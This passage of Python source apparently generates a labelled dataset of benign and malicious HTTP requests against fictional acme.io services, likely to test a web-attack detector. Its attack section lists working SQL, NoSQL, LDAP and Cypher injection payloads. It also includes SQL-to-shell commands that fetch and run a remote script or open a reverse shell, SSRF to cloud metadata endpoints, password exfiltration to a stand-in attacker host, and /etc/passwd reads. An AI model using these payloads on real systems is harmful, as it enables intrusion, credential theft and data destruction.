        return dict(method="GET", host="sourcegraph.acme.io", path="/.api/search/stream", params=[("q", sg), ("v", "V3"), ("display", 1500)],
                    accept="text/event-stream", extra=[["Authorization", "token sgp_" + hexid(r, 40)]])
    return dict(method="POST", host="graylog.acme.io", path="/api/views/search/sync",
                body=js({"queries": [{"query": {"type": "elasticsearch", "query_string": "message:/%s/" % rx.replace("/", "\\/")},
                                      "timerange": {"type": "relative", "range": 3600}}]}),
                extra=[basic(r), ["X-Requested-By", "graylog-web"]])


SENTRY_Q = ['is:unresolved level:error !user.email:*@acme.io', 'release:"web@4.2.0" browser.name:Safari times_seen:>100',
            'transaction:/api/v2/* http.status_code:[500,502,503] has:trace', 'error.type:TypeError message:"undefined is not a function"',
            'event.type:transaction p95(transaction.duration):>2s', 'assigned:me is:for_review firstSeen:-24h']
DD_Q = ['service:checkout status:error @http.status_code:>=500 -env:staging', '@duration:>2000000000 @http.url_details.path:"/api/v1/*"',
        'source:nginx (@network.client.ip:10.* OR @network.client.ip:192.168.*)', 'host:web-0? AND "OutOfMemoryError"']


@benign_gen("sentry_datadog_search", 14)
def b_sentry(r):
    if r.random() < 0.5:
        return dict(method="GET", host="sentry.acme.io", path="/api/0/organizations/acme/issues/",
                    params=[("query", r.choice(SENTRY_Q)), ("statsPeriod", "14d"), ("project", r.randint(1, 30)), ("sort", "freq")],
                    qstyle="browser", browser=True, cookie="sentrysid=%s; sc=%s" % (hexid(r, 32), alnum(r, 32)))
    body = {"filter": {"query": r.choice(DD_Q), "from": "now-15m", "to": "now", "indexes": ["main"]}, "sort": "-timestamp", "page": {"limit": 50}}
    return dict(method="POST", host="api.datadoghq.eu", path="/api/v2/logs/events/search", body=js(body),
                extra=[["DD-API-KEY", hexid(r, 32)], ["DD-APPLICATION-KEY", hexid(r, 40)]])


SHOP_TERMS = ["men's shoes size 10", "\"wireless\" headphones -refurbished", "usb-c (60w OR 100w)", "tv 55\" 4k", "o'neill wetsuit",
              "lego star wars 75192", "ssd >1tb nvme", "cable 3m & adapter", "price<50 mouse", "\"select\" hair spray", "union jack flag",
              "drop earrings gold", "script font stencil", "c++ primer 5th ed", "AND/OR gate kit", "50% off sale"]


@benign_gen("shop_search_box", 14)
def b_shop(r):
    t = r.choice(SHOP_TERMS)
    params = [("q", t)]
    if r.random() < 0.5:
        params.append(("filter", r.choice(["brand:(sony OR bose)", "price:[0 TO 100]", "rating>=4", "color:\"navy blue\""])))
    if r.random() < 0.5:
        params.append(("sort", r.choice(["relevance", "price_asc", "-created_at"])))
    return dict(method="GET", host=r.choice(["shop.acme.io", "www.acme-store.de"]), path=r.choice(["/search", "/api/catalog/search"]), params=params,
                qstyle=r.choice(["form", "browser"]), browser=True,
                cookie="cart=%s; _ga=GA1.2.%d.%d" % (uuid(r), r.randint(100000000, 999999999), r.randint(1700000000, 1733900000)))


SAVED_TITLES = ["5xx by route (last 24h)", "Failed logins > 10/h", "Slow queries: p99 > 2s", "Orders w/o invoice", "\"Checkout\" errors - EU",
                "Müller's team backlog", "Top 10 SKUs {Q4}", "Alerts: disk < 10%", "[OPS] on-call triage", "Revenue (net) vs. target",
                "Who's still on /v1 endpoints?", "Price #1 vs #2"]


@benign_gen("saved_search_crud", 10)
def b_saved(r):
    title = r.choice(SAVED_TITLES)
    k = r.randint(0, 2)
    if k == 0:
        body = form([("name", title), ("search", r.choice(SPL)), ("cron_schedule", "*/15 * * * *"), ("is_scheduled", "1"),
                     ("alert_type", "number of events"), ("alert_comparator", "greater than"), ("alert_threshold", str(r.randint(1, 50)))])
        return dict(method="POST", host="splunk.acme.io:8089", path="/servicesNS/nobody/search/saved/searches", body=body,
                    ctype="application/x-www-form-urlencoded", extra=[["Authorization", "Splunk %s" % uuid(r)]])
    if k == 1:
        body = {"attributes": {"title": title, "description": "owner: %s" % r.choice(NAMES), "kibanaSavedObjectMeta": {
            "searchSourceJSON": js({"query": {"query": r.choice(KQL), "language": "kuery"}, "filter": [], "indexRefName": "kibanaSavedObjectMeta.searchSourceJSON.index"})}}}
        return dict(method="POST", host="kibana.acme.io", path="/api/saved_objects/search", body=js(body), browser=True,
                    cookie=kibana_cookie(r), extra=kibana_hdrs(r))
    return dict(method="PUT", host="grafana.acme.io", path="/api/search-filters/%d" % r.randint(1, 300),
                body=js({"title": title, "query": r.choice(LOGQL + PROMQL), "tags": ["ops", r.choice(ENVS)]}), browser=True, cookie=grafana_cookie(r))


# ---------------------------------------------------------------------------
# dev-content: whole queries saved into notebooks, dashboards, saved questions
# ---------------------------------------------------------------------------

DEV_SQL = [
    "SELECT c.id, c.email, SUM(o.total) AS ltv\nFROM customers c\nJOIN orders o ON o.customer_id = c.id\nWHERE o.status IN ('paid', 'shipped') AND o.created_at >= {{start_date}}\nGROUP BY c.id, c.email\nHAVING SUM(o.total) > 1000\nORDER BY ltv DESC\nLIMIT 100;",
    "WITH weekly AS (\n  SELECT date_trunc('week', created_at) AS wk, count(*) AS n\n  FROM signups\n  WHERE source <> 'test'\n  GROUP BY 1\n)\nSELECT wk, n, n - lag(n) OVER (ORDER BY wk) AS delta FROM weekly ORDER BY wk;",
    "SELECT 'active' AS bucket, count(*) FROM users WHERE last_login > now() - interval '30 days'\nUNION ALL\nSELECT 'dormant', count(*) FROM users WHERE last_login <= now() - interval '30 days' OR last_login IS NULL;",
    "-- churn candidates\nSELECT u.id, u.name, max(e.ts) AS last_event\nFROM users u LEFT JOIN events e ON e.user_id = u.id\nWHERE u.plan = 'pro' [[AND u.country = {{country}}]]\nGROUP BY 1, 2\nHAVING max(e.ts) < current_date - 14;",
    "SELECT table_name, column_name, data_type FROM information_schema.columns WHERE table_schema = 'public' ORDER BY table_name, ordinal_position;",
    "UPDATE feature_flags SET enabled = false WHERE name = 'new_checkout' AND environment = 'staging';",
    "SELECT CASE WHEN total >= 1000 THEN 'large' WHEN total >= 100 THEN 'medium' ELSE 'small' END AS size, count(*), avg(total)::numeric(10,2)\nFROM orders GROUP BY 1;",
    "SELECT pg_size_pretty(pg_total_relation_size(relid)) AS size, relname FROM pg_catalog.pg_statio_user_tables ORDER BY pg_total_relation_size(relid) DESC LIMIT 20;",
]
DEV_CH = [
    "SELECT toStartOfHour(ts) AS h, countIf(status >= 500) AS errors, count() AS total FROM logs.requests WHERE ts > now() - INTERVAL 1 DAY GROUP BY h ORDER BY h FORMAT JSONCompact",
    "SELECT path, quantile(0.99)(duration_ms) AS p99 FROM events WHERE date = today() AND service = 'checkout' GROUP BY path ORDER BY p99 DESC LIMIT 20 FORMAT JSON",
    "SELECT user_id, groupArray(event)[1:5] AS first_events FROM events WHERE date >= today() - 7 GROUP BY user_id HAVING length(first_events) > 2 LIMIT 100",
    "INSERT INTO analytics.daily_rollup SELECT toDate(ts), country, uniqExact(user_id) FROM analytics.events WHERE toDate(ts) = yesterday() GROUP BY 1, 2",
]
DEV_CYPHER = [
    "// weekly fraud ring check\nMATCH (a:Account)-[:SHARES_DEVICE|SHARES_PHONE*1..3]-(b:Account)\nWHERE a.flagged = true AND NOT b.flagged\nWITH b, count(DISTINCT a) AS links\nWHERE links > 2\nRETURN b.id, links ORDER BY links DESC LIMIT 50",
    "CALL apoc.periodic.iterate(\n  'MATCH (o:Order) WHERE o.total IS NULL RETURN o',\n  'MATCH (o)-[:CONTAINS]->(i:Item) WITH o, sum(i.price * i.qty) AS t SET o.total = t',\n  {batchSize: 1000, parallel: false})",
    "LOAD CSV WITH HEADERS FROM 'file:///imports/customers.csv' AS row\nMERGE (c:Customer {id: row.id})\nSET c.name = row.name, c.country = row.country",
    "MATCH (n) WHERE n:Temp OR n.createdAt < datetime() - duration('P90D') DETACH DELETE n",
]
DEV_SPL = [
    "index=web sourcetype=access_combined\n| eval is_error=if(status>=500,1,0)\n| bin _time span=5m\n| stats sum(is_error) AS errors, count AS total BY _time, host\n| eval rate=round(errors/total*100,2)\n| where rate > 5",
    "index=auth action=failure\n| stats count AS fails, values(user) AS users BY src_ip\n| where fails > 20\n| lookup geoip ip AS src_ip\n| outputlookup brute_force_candidates.csv",
    "| inputlookup assets.csv | search owner=\"*\" | join type=left host [search index=os sourcetype=ps | stats latest(_time) AS last_seen BY host] | table host owner last_seen",
]
DEV_FLUX = [
    "import \"sql\"\n\nsql.from(\n  driverName: \"postgres\",\n  dataSourceName: \"postgresql://reader@pg.internal:5432/shop?sslmode=require\",\n  query: \"SELECT sku, stock FROM inventory WHERE stock < 10\"\n)",
    "import \"http\"\nimport \"json\"\n\nfrom(bucket: \"alerts\") |> range(start: -5m) |> filter(fn: (r) => r._level == \"crit\")\n  |> map(fn: (r) => ({r with sent: http.post(url: \"https://hooks.slack.com/services/T000/B000/XXXX\", data: json.encode(v: {text: r._message}))}))",
]


def nb_cell(src):
    return {"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": src.splitlines(True)}


def dev_content():
    out = []
    counter = [0]

    def add(gen, a, r):
        counter[0] += 1
        rid = "%s/dev-content/%s-%03d" % (SET, gen, counter[0])
        out.append(mk(rid, "dev-content", "pass", a, r))

    r = random.Random("dev-metabase_native")
    for k in range(8):
        sql = DEV_SQL[k % len(DEV_SQL)]
        body = {"name": r.choice(["LTV top 100", "Weekly signups", "Active vs dormant", "Churn candidates", "Schema browser"]), "display": "table",
                "dataset_query": {"database": r.randint(1, 5), "type": "native", "native": {"query": sql, "template-tags": {}}},
                "visualization_settings": {}, "collection_id": r.randint(1, 40)}
        add("metabase_native", dict(method=r.choice(["POST", "PUT"]), host="metabase.acme.io", path=r.choice(["/api/card", "/api/card/%d" % r.randint(1, 900)]),
                                    body=js(body), browser=True, cookie="metabase.SESSION=%s" % uuid(r)), r)
    r = random.Random("dev-superset_sqllab")
    for k in range(7):
        sql = DEV_SQL[(k + 3) % len(DEV_SQL)]
        body = {"client_id": alnum(r, 10), "database_id": r.randint(1, 6), "json": True, "runAsync": False, "schema": "public", "sql": sql,
                "sql_editor_id": str(r.randint(1, 200)), "tab": "Untitled Query %d" % r.randint(1, 9), "tmp_table_name": "", "select_as_cta": False,
                "ctas_method": "TABLE", "queryLimit": 1000, "expand_data": True}
        add("superset_sqllab", dict(method="POST", host="superset.acme.io", path="/api/v1/sqllab/execute/", body=js(body), browser=True,
                                    cookie="session=%s" % b64ish(r, 120), extra=[["X-CSRFToken", b64ish(r, 40)]]), r)
    r = random.Random("dev-redash_query")
    for k in range(5):
        body = {"name": "q%d" % r.randint(1, 999), "query": DEV_SQL[(k * 3) % len(DEV_SQL)], "data_source_id": r.randint(1, 9),
                "options": {"parameters": [{"name": "start_date", "type": "date", "value": day(r)}]}, "schedule": None}
        add("redash_query", dict(method="POST", host="redash.acme.io", path="/api/queries", body=js(body),
                                 extra=[["Authorization", "Key " + alnum(r, 40)]]), r)
    r = random.Random("dev-clickhouse_http")
    for k in range(6):
        sql = DEV_CH[k % len(DEV_CH)]
        if k % 2 == 0:
            a = dict(method="GET", host="clickhouse.internal.acme.io:8123", path="/", params=[("query", sql), ("database", "logs"), ("default_format", "JSON")],
                     extra=[["X-ClickHouse-User", "grafana"], ["X-ClickHouse-Key", alnum(r, 20)]])
        else:
            a = dict(method="POST", host="clickhouse.internal.acme.io:8123", path="/", params=[("database", "analytics")], body=sql, ctype="text/plain",
                     extra=[basic(r)])
        add("clickhouse_http", a, r)
    r = random.Random("dev-grafana_panel")
    for k in range(6):
        panels = [{"id": 1, "type": "timeseries", "title": "Errors", "datasource": {"type": "grafana-postgresql-datasource", "uid": alnum(r, 9)},
                   "targets": [{"refId": "A", "format": "time_series", "rawQuery": True,
                                "rawSql": "SELECT $__timeGroupAlias(created_at, '5m'), count(*) AS errors FROM app_errors WHERE $__timeFilter(created_at) AND service IN ($service) GROUP BY 1 ORDER BY 1"}]},
                  {"id": 2, "type": "table", "title": "Recent", "targets": [{"refId": "B", "rawSql": DEV_SQL[k % len(DEV_SQL)]}]},
                  {"id": 3, "type": "stat", "targets": [{"refId": "C", "query": DEV_FLUX[k % 2] if k < 2 else DEV_CH[k % len(DEV_CH)]}]}]
        body = {"dashboard": {"uid": alnum(r, 9), "title": "Service health %d" % k, "panels": panels, "schemaVersion": 39}, "overwrite": True,
                "message": "tweak queries"}
        add("grafana_panel", dict(method="POST", host="grafana.acme.io", path="/api/dashboards/db", body=js(body), browser=True, cookie=grafana_cookie(r)), r)
    r = random.Random("dev-jupyter_notebook")
    for k in range(6):
        cells = [nb_cell("%%sql postgresql://analyst@warehouse/shop\n" + DEV_SQL[k % len(DEV_SQL)]),
                 nb_cell("query = \"\"\"\n" + DEV_CYPHER[k % len(DEV_CYPHER)] + "\n\"\"\"\nwith driver.session() as s:\n    df = pd.DataFrame(s.run(query).data())\ndf.head()")]
        if k % 2:
            cells.append(nb_cell("import subprocess\nsubprocess.run(['ls', '-la', '/home/jovyan/data'], check=True)"))
        body = {"type": "notebook", "format": "json", "content": {"cells": cells, "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3"}},
                                                                  "nbformat": 4, "nbformat_minor": 5}}
        add("jupyter_notebook", dict(method="PUT", host="jupyter.acme.io", path="/user/%s/api/contents/analysis/q%d.ipynb" % (r.choice(["anna", "jdoe"]), k),
                                     body=js(body), browser=True, cookie="_xsrf=%s; jupyterhub-session-id=%s" % (b64ish(r, 40), hexid(r, 32)),
                                     extra=[["X-XSRFToken", b64ish(r, 40)]]), r)
    r = random.Random("dev-neo4j_saved")
    for k in range(5):
        body = {"statements": [{"statement": DEV_CYPHER[k % len(DEV_CYPHER)], "parameters": {}}]}
        if k >= 4:
            body = {"name": "fraud ring weekly", "cypher": DEV_CYPHER[0], "folder": "ops"}
        add("neo4j_saved", dict(method="POST", host="neo4j.acme.io:7474", path="/db/neo4j/tx/commit" if k < 4 else "/browser/api/favorites",
                                body=js(body), extra=[basic(r)]), r)
    r = random.Random("dev-splunk_saved")
    for k in range(5):
        body = form([("name", "dashboard panel %d" % k), ("search", DEV_SPL[k % len(DEV_SPL)]), ("dispatch.earliest_time", "-24h"),
                     ("is_visible", "1")])
        add("splunk_saved", dict(method="POST", host="splunk.acme.io:8089", path="/servicesNS/admin/search/saved/searches", body=body,
                                 ctype="application/x-www-form-urlencoded", extra=[["Authorization", "Splunk %s" % uuid(r)]]), r)
    r = random.Random("dev-influx_task")
    for k in range(3):
        body = {"orgID": hexid(r, 16), "flux": "option task = {name: \"sync\", every: 1h}\n\n" + DEV_FLUX[k % 2], "status": "active"}
        add("influx_task", dict(method="POST", host="influxdb2.acme.io:8086", path="/api/v2/tasks", body=js(body),
                                extra=[["Authorization", "Token " + b64ish(r, 86) + "=="]]), r)
    return out


def benign():
    out = []
    for name, n, fn in BENIGN:
        r = random.Random("benign-" + name)
        for i in range(1, n + 1):
            a = fn(r)
            rid = "%s/benign/%s-%03d" % (SET, name, i)
            out.append(mk(rid, "benign", "pass", a, r))
    out += dev_content()
    return out


# ---------------------------------------------------------------------------
# attacks: injection points of the domain
# ---------------------------------------------------------------------------

def pick_style(r):
    return r.choice(["strict", "strict", "form", "browser"])


def app_search(r, p, key=None):
    """A search box whose value the backend pastes into generated SQL."""
    host, path, k = r.choice([("shop.acme.io", "/api/catalog/search", "q"), ("app.acme.io", "/api/v2/customers/search", "name"),
                              ("reports.acme.io", "/api/reports/orders", "customer"), ("support.acme.io", "/api/tickets", "search"),
                              ("hr.acme.io", "/api/employees/lookup", "lastName"), ("docs.acme.io", "/api/suggest", "term")])
    params = [(key or k, p)]
    if r.random() < 0.5:
        params.append(("limit", r.choice([10, 20, 50])))
    browser = r.random() < 0.5
    return dict(method="GET", host=host, path=path, params=params, qstyle=pick_style(r), browser=browser,
                cookie="session=%s" % hexid(r, 32) if browser else None, extra=[] if browser else [bearer(r)])


def app_search_json(r, p):
    host, path = r.choice([("app.acme.io", "/api/v1/search"), ("shop.acme.io", "/api/products/query"), ("crm.acme.io", "/api/contacts/filter")])
    body = r.choice([{"query": p, "page": 1}, {"filter": {"name": p, "status": "active"}}, {"q": p, "sort": "relevance", "facets": ["brand"]}])
    return dict(method="POST", host=host, path=path, body=js(body), extra=[bearer(r)])


def gql_arg(r, p, var=True):
    host = r.choice(["api.acme.io", "shop.acme.io", "gql.acme.io"])
    if var:
        q_ = r.choice([("SearchProducts", "query SearchProducts($q: String!) { search(query: $q, first: 20) { edges { node { id name } } } }", "q"),
                       ("UserByName", "query UserByName($name: String!) { user(username: $name) { id email role } }", "name"),
                       ("Orders", "query Orders($sort: String) { orders(orderBy: $sort, first: 50) { id total } }", "sort")])
        body = {"operationName": q_[0], "query": q_[1], "variables": {q_[2]: p}}
    else:
        lit = json.dumps(p, ensure_ascii=False)
        body = {"query": r.choice(["{ products(filter: %s) { id name price } }", "query { user(id: %s) { id email } }",
                                   "mutation { updateProfile(bio: %s) { ok } }"]) % lit}
    return dict(method="POST", host=host, path="/graphql", body=js(body), extra=[bearer(r)], browser=r.random() < 0.4)


SQLI_SEARCH = [
    "widget' UNION SELECT username, password_hash, NULL FROM users-- -",
    "x') UNION ALL SELECT table_name, column_name, 3 FROM information_schema.columns-- -",
    "1' AND (SELECT 1 FROM (SELECT SLEEP(5))a)-- -",
    "shoes' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.tables))--",
    "'; WAITFOR DELAY '0:0:7'--",
    "' AND extractvalue(1,concat(0x7e,(SELECT user()),0x7e))-- ",
    "abc' OR '1'='1' -- ",
    "Smith'||(SELECT pg_sleep(6))||'",
    "' AND updatexml(null,concat(0x3a,version()),null)-- -",
    "'); DROP TABLE search_log;--",
    "1' ORDER BY 12-- -",
    "'||(SELECT CASE WHEN (SUBSTR(password,1,1)='a') THEN TO_CHAR(1/0) ELSE 'a' END FROM users WHERE username='admin')||'",
    "' UNION SELECT NULL,LOAD_FILE('/etc/passwd'),NULL-- -",
    "x' AND ascii(substring((select database()),1,1))>100 AND 'a'='a",
    "%' AND 1=1 UNION SELECT null, concat(login,0x3a,pass), null FROM admin_users #",
    "-1 OR 1=1#",
    "O'Brien' AND benchmark(5000000,md5(1))-- x",
    "test\" OR \"\"=\"",
]


@attack_gen("sqli", "search_box")
def a_sqli_search(r):
    out = []
    for i, p in enumerate(SQLI_SEARCH):
        out.append(app_search(r, p) if i % 4 != 3 else app_search_json(r, p))
    return out


SQLI_SORT = ["name,(SELECT CASE WHEN (1=1) THEN name ELSE price END)", "(CASE WHEN (SELECT substr(current_user,1,1))='p' THEN created_at ELSE id END)",
             "price desc,(select sleep(5))", "id;SELECT pg_sleep(5)--", "extractvalue(1,concat(0x7e,version()))", "IF((SELECT count(*) FROM users WHERE role='admin')>0,name,price)"]


@attack_gen("sqli", "sort_key")
def a_sqli_sort(r):
    out = []
    for p in SQLI_SORT:
        key = r.choice(["sort", "order_by", "orderBy", "sort_by"])
        out.append(dict(method="GET", host=r.choice(["api.acme.io", "reports.acme.io"]), path=r.choice(["/api/v1/orders", "/api/v1/invoices", "/api/reports/sales"]),
                        params=[("status", "paid"), (key, p), ("dir", "asc")], qstyle=pick_style(r), extra=[bearer(r)]))
    return out


SQLI_ODATA = [
    ("$filter", "Name eq 'bike'' UNION SELECT Password FROM Users--'"),
    ("$filter", "Id eq 1; DROP TABLE Products--"),
    ("$orderby", "Price;WAITFOR DELAY '0:0:5'--"),
    ("$filter", "startswith(Name,'a') or 1 eq (SELECT COUNT(*) FROM sysobjects)"),
    ("$select", "Name,Price,(SELECT TOP 1 Password FROM Users) as p"),
]


@attack_gen("sqli", "odata_breakout")
def a_sqli_odata(r):
    return [dict(method="GET", host=r.choice(["erp.acme.io", "crm.acme.io"]), path=r.choice(["/odata/Products", "/api/data/v9.2/accounts"]),
                 params=[(k, p), ("$top", 20)], qstyle=pick_style(r), extra=[bearer(r), ["OData-Version", "4.0"]]) for k, p in SQLI_ODATA]


SQLI_GQL = [
    ("x' UNION SELECT id, email, password FROM users--", True),
    ("1) OR 1=1--", True),
    ("name; SELECT pg_sleep(10)--", True),
    ("1 AND SLEEP(5)", False),
    ("' OR 1=1 LIMIT 1 OFFSET 0 -- ", False),
    ("admin'/**/UNION/**/SELECT/**/1,group_concat(password),3/**/FROM/**/users#", True),
    ("1' AND (SELECT 2*(IF((SELECT * FROM (SELECT CONCAT(0x71,(SELECT version()),0x71))s), 8446744073709551610, 8446744073709551610)))-- ", False),
]


@attack_gen("sqli", "graphql_args")
def a_sqli_gql(r):
    return [gql_arg(r, p, v) for p, v in SQLI_GQL]


@attack_gen("sqli", "bi_parameters")
def a_sqli_bi(r):
    out = []
    pays = ["EMEA' OR '1'='1", "DE' UNION SELECT usename, passwd FROM pg_shadow--", "x') OR 1=1--",
            "2024-01-01' AND 1=(SELECT 1 FROM pg_sleep(8))--", "open'; DELETE FROM audit_log; --"]
    for i, p in enumerate(pays):
        k = i % 3
        if k == 0:
            body = {"parameters": [{"type": "string/=", "value": [p], "target": ["variable", ["template-tag", "region"]]}]}
            out.append(dict(method="POST", host="metabase.acme.io", path="/api/card/%d/query" % r.randint(1, 900), body=js(body), browser=True,
                            cookie="metabase.SESSION=%s" % uuid(r)))
        elif k == 1:
            out.append(dict(method="GET", host="redash.acme.io", path="/api/queries/%d/results.json" % r.randint(1, 500),
                            params=[("p_country", p), ("api_key", alnum(r, 40))], qstyle=pick_style(r)))
        else:
            body = {"datasource": {"id": 3, "type": "table"}, "queries": [{"filters": [{"col": "country", "op": "==", "val": p}],
                                                                         "extras": {"where": "", "having": ""}, "columns": ["country"], "row_limit": 100}]}
            out.append(dict(method="POST", host="superset.acme.io", path="/api/v1/chart/data", body=js(body), browser=True,
                            cookie="session=%s" % b64ish(r, 120)))
    body = {"datasource": {"id": 3, "type": "table"}, "queries": [{"filters": [], "extras": {"where": "1=1) UNION SELECT username, password FROM ab_user--", "having": ""},
                                                                 "columns": ["country"], "row_limit": 100}]}
    out.append(dict(method="POST", host="superset.acme.io", path="/api/v1/chart/data", body=js(body), browser=True, cookie="session=%s" % b64ish(r, 120)))
    return out


@attack_gen("sqli", "influx_clickhouse_params")
def a_sqli_tsdb(r):
    pays = [("/api/metrics/cpu", "host", "web-01' OR 1=1; DROP DATABASE \"telegraf\"--"),
            ("/api/metrics/cpu", "host", "x' UNION SELECT * FROM /.*/ --"),
            ("/api/analytics/events", "from", "2024-01-01' UNION ALL SELECT name, password_sha256_hex FROM system.users--"),
            ("/api/analytics/events", "service", "checkout' AND sleepEachRow(3)=0 AND '1'='1"),
            ("/api/analytics/funnel", "step", "signup') UNION ALL SELECT currentUser(), version(), hostName()--")]
    return [dict(method="GET", host="dash.acme.io", path=p, params=[(k, v), ("range", "24h")], qstyle=pick_style(r), browser=True,
                 cookie=grafana_cookie(r)) for p, k, v in pays]


@attack_gen("rce", "sql_to_shell")
def a_rce_sql(r):
    pays = ["x'; COPY (SELECT '') TO PROGRAM 'curl -s http://203.0.113.9/x.sh|sh';--",
            "1; CREATE TABLE cmd_exec(cmd_output text); COPY cmd_exec FROM PROGRAM 'id'; SELECT * FROM cmd_exec;--",
            "DE'; DROP TABLE IF EXISTS t; CREATE TABLE t(o text); COPY t FROM PROGRAM 'bash -c \"bash -i >& /dev/tcp/203.0.113.9/443 0>&1\"';--",
            "'; EXEC master..xp_cmdshell 'powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA';--",
            "1'; EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE; EXEC xp_cmdshell 'whoami';--"]
    out = []
    for i, p in enumerate(pays):
        if i % 2 == 0:
            out.append(dict(method="GET", host="redash.acme.io", path="/api/queries/%d/results.json" % r.randint(1, 500),
                            params=[("p_country", p), ("api_key", alnum(r, 40))], qstyle=pick_style(r)))
        else:
            out.append(app_search(r, p))
    return out


NOSQL = [
    ("qs", [("username[$ne]", "x"), ("password[$ne]", "x")]),
    ("qs", [("email[$regex]", "^admin"), ("password[$gt]", "")]),
    ("qs", [("filter", '{"$where": "sleep(5000) || true"}')]),
    ("qs", [("filter", '{"$where": "this.password.match(/^a.*/) != null"}')]),
    ("qs", [("q", "x'; while(true){}; var a='")]),
    ("qs", [("user[$where]", "function(){ return this.role == 'admin' }")]),
    ("json", {"username": {"$gt": ""}, "password": {"$gt": ""}}),
    ("json", {"email": {"$ne": None}, "password": {"$regex": ".*"}}),
    ("json", {"filter": {"$where": "function() { var d = new Date(); do { var c = new Date(); } while (c - d < 6000); return true; }"}}),
    ("pipe", [{"$match": {"$expr": {"$function": {"body": "function() { sleep(5000); return true; }", "args": [], "lang": "js"}}}}]),
    ("pipe", [{"$group": {"_id": "$country", "x": {"$accumulator": {"init": "function() { while(true){} }", "accumulate": "function(s){return s}",
                                                                   "accumulateArgs": ["$total"], "merge": "function(a,b){return a}", "lang": "js"}}}}]),
    ("pipe", [{"$lookup": {"from": "system.users", "pipeline": [{"$project": {"user": 1, "credentials": 1}}], "as": "creds"}}]),
    ("pipe", [{"$match": {"$where": "return db.getSiblingDB('admin').system.users.find().length() > 0"}}]),
    ("pipe", [{"$out": {"db": "admin", "coll": "system.users"}}]),
    ("gql", {"email": {"$ne": None}, "password": {"$ne": None}}),
    ("json", {"$or": [{"name": "x"}, {"$where": "sleep(3000)"}]}),
    ("qs", [("sort[$function][body]", "function(){ return process.env }"), ("sort[$function][lang]", "js")]),
    ("json", {"query": {"mapReduce": "orders", "map": "function(){ emit(1, db.system.users.find().toArray()) }", "reduce": "function(k,v){ return v }"}}),
]


@attack_gen("nosql", "operator_js")
def a_nosql(r):
    out = []
    for kind, p in NOSQL:
        if kind == "qs":
            out.append(dict(method="GET", host=r.choice(["api.acme.io", "admin-api.acme.io"]), path=r.choice(["/api/users", "/api/collections/orders/find", "/api/login"]),
                            params=p, qstyle=pick_style(r), extra=[bearer(r)]))
        elif kind == "json":
            out.append(dict(method="POST", host="api.acme.io", path=r.choice(["/api/auth/login", "/api/collections/customers/find", "/api/search"]), body=js(p)))
        elif kind == "pipe":
            body = {"dataSource": "Cluster0", "database": "shop", "collection": "orders", "pipeline": p}
            out.append(dict(method="POST", host="data.mongodb-api.com", path="/app/data-%s/endpoint/data/v1/action/aggregate" % alnum(r, 5).lower(),
                            body=js(body), extra=[["api-key", b64ish(r, 64)]]))
        else:
            body = {"operationName": "Login", "query": "mutation Login($email: JSON!, $password: JSON!) { login(email: $email, password: $password) { token } }",
                    "variables": p}
            out.append(dict(method="POST", host="api.acme.io", path="/graphql", body=js(body)))
    return out


LDAP = ["*)(uid=*))(|(uid=*", "admin)(&)", "*)(|(objectClass=*)", "jdoe)(|(userPassword=*)", "x*)(|(memberOf=cn=Domain Admins,cn=Users,dc=acme,dc=io)",
        "*))\x00", "admin*)((|userPassword=*)", "*)(cn=*))(|(cn=*"]


@attack_gen("ldap", "directory_search")
def a_ldap(r):
    out = []
    for i, p in enumerate(LDAP):
        if i % 3 == 2:
            out.append(dict(method="POST", host="sso.acme.io", path="/api/directory/search", body=js({"filter": p, "attributes": ["cn", "mail"]}), extra=[bearer(r)]))
        else:
            out.append(dict(method="GET", host=r.choice(["phonebook.acme.io", "sso.acme.io"]), path=r.choice(["/api/people", "/directory/search"]),
                            params=[(r.choice(["q", "uid", "cn", "user"]), p)], qstyle=pick_style(r), browser=True, cookie="JSESSIONID=%s" % hexid(r, 32).upper()))
    return out


def cypher_app(r, p):
    """An app endpoint that concatenates its parameter into a Cypher string."""
    if r.random() < 0.6:
        return dict(method="GET", host=r.choice(["graph-api.acme.io", "recs.acme.io"]), path=r.choice(["/api/people/friends", "/api/movies/search", "/api/recommendations"]),
                    params=[(r.choice(["name", "title", "user"]), p)], qstyle=pick_style(r), extra=[bearer(r)])
    return dict(method="POST", host="graph-api.acme.io", path="/api/graph/lookup", body=js({"name": p, "depth": 2}), extra=[bearer(r)])


CYPHER_INJ = [
    "' OR 1=1 WITH 1 AS x CALL dbms.components() YIELD name, versions, edition RETURN name, versions, edition //",
    "x' OR 1=1 WITH 0 AS _l00 CALL dbms.procedures() YIELD name RETURN name //",
    "a'}) RETURN n UNION MATCH (u:User) RETURN u.password AS n //",
    "' OR 1=1 WITH 1 AS a MATCH (u:User) DETACH DELETE u //",
    "x' RETURN 1 AS n UNION CALL db.labels() YIELD label RETURN label AS n //",
    "x' CALL dbms.security.listUsers() YIELD username, roles RETURN username, roles //",
    "' OR 1=1 WITH 1 AS a CALL apoc.cypher.runFirstColumnMany('MATCH (n:Secret) RETURN n', {}) YIELD value RETURN value //",
    "Keanu\"}) MATCH (n) SET n.admin = true RETURN n //",
]


@attack_gen("generic", "cypher_injection")
def a_cypher(r):
    return [cypher_app(r, p) for p in CYPHER_INJ]


CYPHER_SSRF = [
    "' OR 1=1 WITH 1 AS a LOAD CSV FROM 'http://169.254.169.254/latest/meta-data/iam/security-credentials/' AS r RETURN r //",
    "x' LOAD CSV FROM 'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token' AS l RETURN l //",
    "' OR 1=1 WITH 1 AS a MATCH (u:User) LOAD CSV FROM 'https://exfil.attacker.example/?p=' + u.password AS y RETURN 1 //",
    "' OR 1=1 WITH 1 AS a CALL apoc.load.json('http://169.254.169.254/metadata/instance?api-version=2021-02-01') YIELD value RETURN value //",
    "x' LOAD CSV FROM 'http://127.0.0.1:8500/v1/kv/?recurse' AS l RETURN l //",
]


@attack_gen("ssrf", "cypher_load_csv")
def a_cypher_ssrf(r):
    out = [cypher_app(r, p) for p in CYPHER_SSRF]
    out.append(dict(method="POST", host="neo4j.acme.io:7474", path="/db/neo4j/tx/commit", extra=[basic(r)],
                    body=js({"statements": [{"statement": "LOAD CSV FROM 'http://169.254.169.254/latest/user-data' AS line RETURN line", "parameters": {}}]})))
    return out


@attack_gen("lfi", "graph_file_read")
def a_graph_lfi(r):
    out = [cypher_app(r, "x' LOAD CSV FROM 'file:///etc/passwd' AS l RETURN l //"),
